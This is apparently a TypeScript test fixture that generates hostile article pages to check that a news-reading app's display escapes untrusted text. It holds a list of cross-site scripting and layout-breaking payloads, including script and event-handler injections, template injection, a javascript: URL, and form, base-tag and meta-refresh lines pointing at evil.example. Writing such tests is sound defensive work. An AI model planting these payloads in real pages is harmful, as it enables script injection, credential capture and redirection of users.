// Pages made to break a screen: each payload in each place where a page's words come to stand.
import type { Arrival } from '../../src/gather/reading/arrival.ts'

/** What is put in, by what it tries. `PWN` is what would be seen had it worked. */
const PAYLOADS: Readonly<Record<string, string>> = {
  script: '<script>window.pwned=1</script>',
  'script, closing what is open': '"></a></p></main><script>window.pwned=1</script><p>',
  'script in a title': '</title></head><script>window.pwned=1</script>',
  image: '<img src=x onerror=window.pwned=1>',
  svg: '<svg onload=window.pwned=1><script>window.pwned=1</script></svg>',
  style: '</style><style>body{display:none!important}*{position:fixed}</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:red">over all</p>',
  frame: '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  form: '</form><form action="https://evil.example/"><input name=words autofocus><button>Read</button>',
  base: '<base href="https://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  comment: '<!-- --!><script>window.pwned=1</script><!--',
  cdata: '<![CDATA[<script>window.pwned=1</script>]]>',
  'attribute of single quotes': "' onfocus='window.pwned=1' autofocus='",
  'attribute of double quotes': '" onfocus="window.pwned=1" autofocus="',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is tried
  template: '${window.pwned=1} {{constructor.constructor("window.pwned=1")()}} #{7*7}',
  entities: '&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3c;script>',
  bidi: '\u202egnirts desrever a\u202c \u2066isolated\u2069 \u200f',
  'null bytes': 'nul\0here\0<scr\0ipt>window.pwned=1</scr\0ipt>',
  controls: '\u001b[2J\u001b]0;title\u0007 \u0085 \u2028 \u2029 \ufeff',
  'half characters': 'half \ud800 and \udc00 of \ud83d',
  combining: `Z${'\u0335\u0489'.repeat(400)}`,
  'one long word': 'w'.repeat(6000),
  'a megabyte': 'A headline without an end '.repeat(40_000),
  'an address that runs': 'javascript:window.pwned=1',
}

/** Where it is put. */
const PLACES = ['headline', 'outlet', 'text', 'speaker'] as const

/** A page for each payload in each place. */
export function hostilePages(): Arrival[] {
  return Object.values(PAYLOADS).flatMap((payload, kind) =>
    PLACES.map((place, at): Arrival => {
      const number = kind * PLACES.length + at
      const speaker = place === 'speaker' ? `Ada ${payload.slice(0, 3000)} Quill` : 'Ada Quill'
      const paragraphs = [
        `Up to ${number + 20} barges sank off Lorne Quay on Tuesday, harbour master ${speaker} said.`,
        place === 'text' ? payload : 'The quay was closed for the night.',
        `"We have counted ${number + 20} of them," ${speaker} told reporters.`,
      ]
      return {
        bytes: new TextEncoder().encode(paragraphs.join('\n\n')),
        url: payload.startsWith('javascript:')
          ? null
          : `https://paper-${number}.example/barges?${encodeURIComponent(payload.slice(0, 200).toWellFormed())}`,
        finalUrl: null,
        redirects: [],
        status: null,
        headers: {},
        capturedAt: `2031-05-12T09:${String(number % 60).padStart(2, '0')}:00.000Z`,
        how: 'imported',
        notes: [],
        as: 'article',
        given: {
          headline: place === 'headline' ? payload : `Barges sink off Lorne Quay (${number})`,
          outlet: place === 'outlet' ? payload : `Paper ${number}`,
          published: '2031-05-12',
        },
      }
    }),
  )
}
